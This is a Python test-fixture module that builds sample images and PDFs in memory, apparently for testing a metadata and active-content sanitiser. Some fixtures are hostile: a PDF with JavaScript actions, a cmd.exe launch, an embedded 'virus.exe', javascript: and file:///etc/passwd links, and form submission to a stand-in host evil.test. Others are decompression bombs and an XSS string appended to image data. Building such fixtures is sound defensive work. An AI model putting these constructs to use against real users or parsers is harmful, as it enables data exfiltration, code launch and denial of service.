"""Files made on the spot, honest and hostile: none is committed."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
TYPES = {"PNG": "image/png", "JPEG": "image/jpeg", "WEBP": "image/webp"}


def picture(form="PNG", size=(40, 30), mode="RGB", **options) -> bytes:
    """A small picture with some texture."""
    stream = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(stream, form, **options)
    return stream.getvalue()


def photograph(form="JPEG", orientation=1) -> bytes:
    """A picture 60 wide and 20 high, left half white, with Exif that tells place, device and author."""
    image = Image.new("RGB", (60, 20), "black")
    image.paste("white", (0, 0, 30, 20))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Secret Camera"
    exif[0x013B] = "Secret Author"
    exif.get_ifd(0x8825)[1] = "N"
    stream = io.BytesIO()
    image.save(stream, form, exif=exif, **({"comment": b"Secret comment"} if form == "JPEG" else {}))
    return stream.getvalue()


def animation(form) -> bytes:
    """Two frames."""
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    stream = io.BytesIO()
    frames[0].save(stream, form, save_all=True, append_images=frames[1:], duration=100)
    return stream.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds next to nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )


def webp_header_only(width: int, height: int) -> bytes:
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0" + canvas


def zeros(megabytes: int) -> bytes:
    """That many megabytes of nothing, packed to a thousandth."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def document(pages=1, change=None, **saving) -> bytes:
    """A PDF of blank pages; `change(pdf)` may alter it before it is written."""
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=(200, 200))
        if change:
            change(pdf)
        stream = io.BytesIO()
        pdf.save(stream, **saving)
    return stream.getvalue()


def with_text(pdf):
    """A page that says something."""
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (Annual report) Tj ET")


def annotation(subtype: str, **entries) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 10, 10]), **entries)


def with_everything_that_acts(pdf):
    """Every way we know in which a PDF acts, reaches out or tells of its author, in one document."""
    with_text(pdf)
    root, page = pdf.Root, pdf.pages[0].obj
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('script')"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    file = pdf.make_stream(b"MZ embedded program")
    file.Type = Name.EmbeddedFile
    specification = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("virus.exe"), EF=Dictionary(F=file), AFRelationship=Name.Data)
    )
    root.OpenAction = script
    root.AA = Dictionary(WC=launch)
    root.URI = Dictionary(Base=String("https://evil.test/"))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("boot"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("virus.exe"), specification])),
        Dests=Dictionary(Names=Array([String("start"), Array([pdf.pages[0].obj, Name.Fit])])),
    )
    root.AF = Array([specification])
    root.Collection = Dictionary(View=Name.D)
    root.Metadata = pdf.make_stream(b"<x:xmpmeta>Secret Author</x:xmpmeta>")
    pdf.trailer.Info = pdf.make_indirect(Dictionary(Author=String("Secret Author"), Creator=String("Secret Program")))
    field = pdf.make_indirect(
        annotation(
            "/Widget",
            FT=Name.Tx,
            T=String("name"),
            V=String("Kept answer"),
            AA=Dictionary(K=script),
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.test/collect")),
        )
    )
    signature = pdf.make_indirect(
        annotation("/Widget", FT=Name.Sig, T=String("signed"), V=Dictionary(Contents=String("old signature")))
    )
    root.AcroForm = Dictionary(
        Fields=Array([field, signature]), XFA=pdf.make_stream(b"<xdp>xfa form</xdp>"), SigFlags=3
    )
    good_link = Dictionary(S=Name.URI, URI=String("https://example.org/report"), Next=script)
    annotations = [
        field,
        signature,
        annotation("/Link", A=good_link),
        annotation("/Link", A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        annotation("/Link", A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        annotation("/Link", A=launch),
        annotation(
            "/Link", A=Dictionary(S=Name.GoToR, F=String("\\\\evil.test\\share\\x.pdf"), D=Array([0, Name.Fit]))
        ),
        annotation("/Link", A=Dictionary(S=Name.GoToE, F=specification)),
        annotation("/Link", A=Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        annotation("/Link", A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))),
        annotation("/FileAttachment", FS=specification),
        annotation("/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))),
        annotation("/Screen", A=Dictionary(S=Name.Rendition, JS=String("app.beep(0)"))),
        annotation("/Movie", Movie=Dictionary(F=String("film.mov"))),
        annotation("/3D", A=script),
        annotation("/Text", Contents=String("Kept comment"), AA=Dictionary(E=script)),
    ]
    page.Annots = Array([pdf.make_indirect(each) for each in annotations])
    page.AA = Dictionary(O=script)
    page.PieceInfo = Dictionary(App=Dictionary(Private=String("Secret Program")))
    page.Thumb = pdf.make_stream(b"old thumbnail")
    item = Dictionary(Title=String("Chapter"), A=launch)
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Chapter"), Parent=outlines, A=launch))
    outlines.First = outlines.Last = item
    root.Outlines = outlines
    outside = pdf.make_stream(b"")
    outside.F = String("https://evil.test/content")
    page.Contents = Array([page.Contents, outside])


def with_photograph(pdf):
    """A page that shows a photograph with Exif in it."""
    content = photograph()
    shown = Stream(pdf, b"")
    shown.write(content + SCRIPT, filter=Name.DCTDecode)
    shown.Type, shown.Subtype = Name.XObject, Name.Image
    shown.Width, shown.Height, shown.BitsPerComponent, shown.ColorSpace = 60, 20, 8, Name.DeviceRGB
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(shown)))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 60 0 0 20 0 0 cm /Im0 Do Q")


def with_bomb(megabytes: int, times=1):
    """A change that gives the page contents which unpack to that much, packed once or more often."""

    def change(pdf):
        packed = zeros(megabytes)
        for _ in range(times - 1):
            packed = zlib.compress(packed)
        stream = Stream(pdf, b"")
        stream.write(packed, filter=Array([Name.FlateDecode] * times))
        pdf.pages[0].obj.Contents = pdf.make_indirect(stream)

    return change


def with_objects_from_bomb(megabytes: int) -> bytes:
    """A PDF written by hand, whose objects are packed so that reading the first means unpacking all."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"6 0 << /Kept 1 >>")
    packed += b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    objects = [
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
        b"<< /Type /Catalog /Pages 3 0 R /Lang 6 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>",
    ]
    body, rows = b"%PDF-1.5\n", [bytes(7)]
    for number, text in enumerate(objects, start=1):
        rows.append(b"\x01" + len(body).to_bytes(4) + b"\0\0")
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows += [b"\x01" + len(body).to_bytes(4) + b"\0\0", b"\x02" + (1).to_bytes(4) + b"\0\0"]
    table = b"".join(rows)
    reference = b"<< /Type /XRef /W [1 4 2] /Size 7 /Root 2 0 R /Length %d >>\nstream\n%s\nendstream" % (
        len(table),
        table,
    )
    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (reference, len(body))
